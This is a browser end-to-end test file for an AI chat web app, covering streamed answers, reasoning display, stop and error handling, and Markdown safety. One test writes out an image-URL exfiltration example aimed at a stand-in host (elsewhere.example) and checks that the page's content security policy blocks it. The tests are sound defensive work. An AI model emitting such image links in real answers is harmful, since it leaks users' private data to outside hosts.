import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ANSWER, REASONING } from "../fakes/openai-compatible";
import {
  apiOrigin,
  chatReady,
  clientUrl,
  connectBrowser,
  newContext,
  registerUser,
  screenshot,
  signInThroughUi,
} from "./browser";
import { checkState, type Finding } from "./screen-checks";

let browser: Browser;
beforeAll(async () => {
  browser = await connectBrowser();
});
afterAll(() => browser?.close());

// The scripted model's "[script:slow]" answer: reasoning "step 0. … step 4. ", then "w5 " … "w39 ", 25 ms apart.
const SLOW_REASONING = Array.from({ length: 5 }, (_, i) => `step ${i}. `).join("");
// As Markdown renders it: the paragraph's trailing space goes.
const SLOW_ANSWER = Array.from({ length: 35 }, (_, i) => `w${i + 5}`).join(" ");

type Sampled = typeof globalThis & { answerSamples?: string[] };

/** Records every text the last assistant message shows, as the DOM changes. */
function sampleAnswerText(page: Page) {
  return page.evaluate(() => {
    const samples: string[] = [];
    (globalThis as Sampled).answerSamples = samples;
    new MutationObserver(() => {
      const last = [...document.querySelectorAll('[data-role="assistant"]')].at(-1);
      const text = last?.querySelector(".text")?.textContent;
      if (text && samples.at(-1) !== text) samples.push(text);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
}

const answerSamples = (page: Page) => page.evaluate(() => (globalThis as Sampled).answerSamples ?? []);
const message = (page: Page) => page.getByLabel("Message", { exact: true });

/** A fresh user's chat: each browser context keeps its own conversation name. */
async function openChat(page: Page) {
  const user = await registerUser();
  await signInThroughUi(page, user, "#/chat");
  await chatReady(page);
}

describe("chat", () => {
  it("streams an answer: text grows in place, reasoning folds away, send waits for ready", async () => {
    const { context, offLoopback } = await newContext(browser);
    const page = await context.newPage();
    await openChat(page);
    const send = page.getByRole("button", { name: "Send" });
    const stop = page.getByRole("button", { name: "Stop" });
    // Nothing to stop, nothing to send yet; suggestions instead of an empty list.
    expect(await stop.count()).toBe(0);
    expect(await send.isDisabled()).toBe(true);
    await page.getByRole("list", { name: "Suggestions" }).waitFor();
    await screenshot(page, "07-chat-empty");

    await message(page).fill("[script:slow] Count from five, please.");
    await expect.poll(() => send.isEnabled()).toBe(true);
    await sampleAnswerText(page);
    await send.click();

    // While the answer streams, Send is off and Stop is on.
    await expect.poll(async () => (await answerSamples(page)).length, { timeout: 10_000 }).toBeGreaterThan(0);
    await screenshot(page, "07-chat-streaming");
    expect(await send.isDisabled()).toBe(true);
    expect(await stop.isEnabled()).toBe(true);

    await chatReady(page);
    const assistant = page.locator('[data-role="assistant"]').last();
    expect(await assistant.locator(".text").textContent()).toBe(SLOW_ANSWER);
    const samples = await answerSamples(page);
    expect(samples.at(-1)).toBe(SLOW_ANSWER);
    // Intermediate renders: non-empty, strictly shorter prefixes of the final answer.
    const partial = samples.slice(0, -1);
    expect(partial.length).toBeGreaterThan(0);
    for (const text of partial) {
      expect(text.length).toBeLessThan(SLOW_ANSWER.length);
      expect(SLOW_ANSWER.startsWith(text)).toBe(true);
    }

    // Reasoning is rendered, folded by default.
    const reasoning = assistant.locator("details.reasoning");
    expect(await reasoning.getAttribute("open")).toBeNull();
    expect(await reasoning.locator("summary").textContent()).toBe("Reasoning");
    expect(await reasoning.locator("p").textContent()).toBe(SLOW_REASONING);

    // A second turn in the same conversation; its screenshot shows a finished answer.
    await message(page).fill("Say hello.");
    await send.click();
    await page
      .locator('[data-role="assistant"]')
      .nth(1)
      .locator(".text")
      .getByText(ANSWER.join(""))
      .waitFor();
    await chatReady(page);
    expect(
      await page.locator('[data-role="assistant"]').nth(1).locator("details.reasoning p").textContent(),
    ).toBe(REASONING.join(""));
    await screenshot(page, "08-chat-answer");
    expect(offLoopback).toEqual([]);
    await context.close();
  });

  it("renders answers as Markdown without the answer's raw HTML or script links", async () => {
    const { context } = await newContext(browser);
    const page = await context.newPage();
    await openChat(page);
    await message(page).fill("[script:markdown] Plan my day.");
    await page.getByRole("button", { name: "Send" }).click();
    const answer = page.locator('[data-role="assistant"] .text').last();
    await answer.locator("pre").getByText("npm run dev").waitFor();
    await chatReady(page);
    expect(await answer.locator("strong").textContent()).toBe("the plan");
    expect(await answer.locator("ol > li").allTextContents()).toEqual([
      "Water the plants",
      "Send the report",
    ]);
    expect(await answer.locator("code").first().textContent()).toBe("report");
    // The HTML is neither an element nor run (it shows as text); the javascript: link is left as its text.
    expect(await answer.locator("img").count()).toBe(0);
    expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined();
    expect(await answer.locator("a").count()).toBe(0);
    expect(await answer.textContent()).toContain("a link");
    await screenshot(page, "08-chat-markdown");
    await context.close();
  });

  it("E11: loads the service's images in an answer; another host's image is a link naming it, never requested", async () => {
    const { context, offLoopback } = await newContext(browser);
    const page = await context.newPage();
    await openChat(page);
    // What an answer that read a private file could write: its text in the URL of an image elsewhere.
    const leak = "https://elsewhere.example/?d=secret-file-text";
    await message(page).fill(`[script:echo] ![chart](${apiOrigin}/favicon.svg) and ![x](${leak})`);
    await page.getByRole("button", { name: "Send" }).click();
    const answer = page.locator('[data-role="assistant"] .text').last();
    const link = answer.getByRole("link", { name: "x (image from elsewhere.example)", exact: true });
    await link.waitFor();
    await chatReady(page);
    expect(await link.getAttribute("href")).toBe(leak);
    const images = answer.locator("img");
    expect(await images.count()).toBe(1);
    expect(await images.getAttribute("src")).toBe(`${apiOrigin}/favicon.svg`);
    await expect
      .poll(() => images.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0))
      .toBe(true);

    // The page's CSP refuses an image from elsewhere even if one reached the DOM another way.
    const refused = await page.evaluate(
      (url) =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), {
            once: true,
          });
          const img = document.createElement("img");
          img.src = url;
          document.body.append(img);
        }),
      "https://elsewhere.example/csp-probe.png",
    );
    expect(refused).toBe("img-src");
    expect(offLoopback).toEqual([]);

    // The policy is in the page, built for the service that serves it at /app/ (its own origin, the
    // chat's WebSocket included: 'self' covers ws:); the server adds frame-ancestors, which a <meta> tag
    // cannot carry.
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    expect(meta).toContain("img-src 'self' data: blob:;");
    expect(meta).toContain("connect-src 'self';");
    const served = await fetch(clientUrl);
    expect(served.headers.get("Content-Security-Policy")).toBe("frame-ancestors 'none'");
    expect(served.headers.get("X-Frame-Options")).toBe("DENY");
    expect(meta).not.toContain("frame-ancestors");
    await context.close();
  });

  it("stops a streaming answer, keeping what arrived; a failed answer shows plain words, not an empty bubble", async () => {
    const { context } = await newContext(browser);
    const page = await context.newPage();
    await openChat(page);
    await message(page).fill("[script:slow] Count, but I will stop you.");
    await sampleAnswerText(page);
    await page.getByRole("button", { name: "Send" }).click();
    await expect.poll(async () => (await answerSamples(page)).length, { timeout: 10_000 }).toBeGreaterThan(0);
    await page.getByRole("button", { name: "Stop" }).click();

    await chatReady(page);
    const kept = await page.locator('[data-role="assistant"]').last().locator(".text").textContent();
    expect(kept!.length).toBeGreaterThan(0);
    expect(kept!.length).toBeLessThan(SLOW_ANSWER.length);
    expect(SLOW_ANSWER.startsWith(kept!.trim())).toBe(true);

    // The model breaks off: the error says so; no assistant bubble without words.
    await message(page).fill("[script:fail-midway] Go.");
    await page.getByRole("button", { name: "Send" }).click();
    const alert = page.getByRole("alert");
    await alert.waitFor();
    expect(await alert.locator("p").first().textContent()).toBe("The model failed to answer. Try again.");
    for (const bubble of await page.locator('[data-role="assistant"]').all()) {
      expect((await bubble.innerText()).replace("Assistant:", "").trim()).not.toBe("");
    }
    await context.close();
  });

  it("the message box grows as you write: Enter sends, Shift+Enter breaks the line, an IME's Enter only composes", async () => {
    const { context } = await newContext(browser);
    const page = await context.newPage();
    await openChat(page);
    const findings: Finding[] = [];
    for (const [turn, width] of [390, 1280].entries()) {
      await page.setViewportSize({ width, height: 800 });
      const box = message(page);
      await box.click();
      const oneLine = await box.evaluate((el) => el.getBoundingClientRect().height);
      await box.pressSequentially(`Line one at ${width}`);
      await page.keyboard.press("Shift+Enter");
      await box.pressSequentially("line two");
      expect(await box.inputValue()).toBe(`Line one at ${width}\nline two`);
      expect(await box.evaluate((el) => el.getBoundingClientRect().height)).toBeGreaterThan(oneLine);
      // An Enter that ends an input method's composition (isComposing) sends nothing.
      await box.evaluate((el) =>
        el.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true })),
      );
      await page.evaluate(() => new Promise(requestAnimationFrame));
      expect(await box.inputValue()).toBe(`Line one at ${width}\nline two`);
      await checkState(page, `chat with two lines written (${width})`, findings);
      await page.setViewportSize({ width, height: 800 });

      await page.keyboard.press("Enter");
      expect(await box.inputValue()).toBe("");
      const sent = page.locator('[data-role="user"]').nth(turn);
      await sent.getByText(`Line one at ${width}`).waitFor();
      expect(await sent.locator("p").textContent()).toBe(`Line one at ${width}\nline two`);
      await page.locator('[data-role="assistant"]').nth(turn).getByText(ANSWER.join("")).waitFor();
      await chatReady(page);
      expect(await box.evaluate((el) => el.getBoundingClientRect().height)).toBe(oneLine);
    }
    await screenshot(page, "09-chat-message-box");
    expect(findings).toEqual([]);
    await context.close();
  });

  it("with no model, says so in people's words, the developer's detail folded under Details, no raw backticks", async () => {
    const { context } = await newContext(browser);
    const page = await context.newPage();
    await openChat(page);
    await message(page).fill("[script:no-model] Hello?");
    await page.getByRole("button", { name: "Send" }).click();
    const alert = page.getByRole("alert");
    await alert.waitFor();
    expect(await alert.locator("p").first().textContent()).toBe(
      "No AI model is connected yet, so the assistant can't answer.",
    );
    const details = alert.locator("details");
    expect(await details.getAttribute("open")).toBeNull();
    await details.locator("summary").click();
    expect(await details.locator("code").allTextContents()).toContain("wrangler login");
    expect(await details.textContent()).toContain("AI_BASE_URL");
    expect(await alert.textContent()).not.toContain("`");
    const findings: Finding[] = [];
    await checkState(page, "chat without a model", findings);
    expect(findings).toEqual([]);
    await page.setViewportSize({ width: 390, height: 800 });
    await screenshot(page, "09-chat-no-model");
    await context.close();
  });
});
